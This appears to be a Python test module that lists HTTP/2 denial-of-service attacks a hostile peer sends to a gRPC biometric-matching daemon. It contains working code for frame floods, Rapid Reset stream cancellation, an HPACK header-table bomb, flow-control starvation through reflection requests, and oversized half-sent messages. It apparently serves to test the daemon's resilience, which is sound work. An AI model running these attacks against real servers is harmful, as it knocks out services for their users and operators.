"""What one hostile peer may send, by name: attacks(peer) run until the daemon has hung up or takes no more."""
from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                   WINDOW_UPDATE, frame, literal, message, request, setting)

REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
VERIFY = "/biomatch.v1.MatchingService/Verify"

OPENED = frame(HEADERS, END_HEADERS, 1, request())
# Frames that are cheap to send and do no work for anybody, and what has to come before them.
CHEAP = {
    "PRIORITY": (frame(PRIORITY, 0, 3, b"\0\0\0\1\x10"), b""),
    "empty DATA": (frame(DATA, 0, 1), OPENED),
    "WINDOW_UPDATE": (frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"), b""),
    "SETTINGS": (frame(SETTINGS, payload=setting(3, 100)), b""),
    "PING": (frame(PING, 0, 0, bytes(8)), b""),
    "unknown frames": (frame(0x42, 0, 0, b"?"), b""),
    "GOAWAY": (frame(GOAWAY, 0, 0, bytes(8)), b""),
    "empty CONTINUATION": (frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1)),
    "CONTINUATION": (frame(CONTINUATION, 0, 1, literal(b"a", b"b")), frame(HEADERS, 0, 1, request())),
}


def cheap_frames(peer, name, times=100000):
    one, before = CHEAP[name]
    sent = peer.send(before)
    for _ in range(times // 500):
        sent = sent and peer.send(one * 500)


def rapid_reset(peer, times=20000):
    for stream in range(1, 2 * times, 2):
        if not peer.send(frame(HEADERS, END_HEADERS, stream, request()) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")):
            break


def header_bombs(peer, times=200):
    """One entry fills the table, 4096 with its overhead, and block after block is nothing but references to it."""
    bomb = request() + b"\x40\x01a\x7f\xe0\x1e" + b"b" * 4063 + b"\xbe" * 12000
    for stream in range(1, 2 * times, 2):
        if not peer.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb[:16384])):
            break


def ask_and_never_read(peer, times=50):
    """The peer wants a socket that holds little and a window that holds all."""
    peer.send(frame(WINDOW_UPDATE, 0, 0, b"\x7f\0\0\0"))
    symbol = b"biomatch.v1.MatchingService"
    ask = message(b"\x22" + bytes([len(symbol)]) + symbol)
    for stream in range(1, 2 * times, 2):
        if not peer.send(frame(HEADERS, END_HEADERS, stream, request(REFLECTION)) + frame(DATA, END_STREAM, stream, ask * 20)):
            break


NEVER_READS = {"settings": setting(4, (1 << 31) - 1), "receive_buffer": 4096}


def half_messages(peer, times=50):
    """Messages of the largest size, and a byte of each."""
    for stream in range(1, 2 * times, 2):
        if not peer.send(frame(HEADERS, END_HEADERS, stream, request(VERIFY))
                         + frame(DATA, 0, stream, message(b"x", length=20 << 20))):
            break
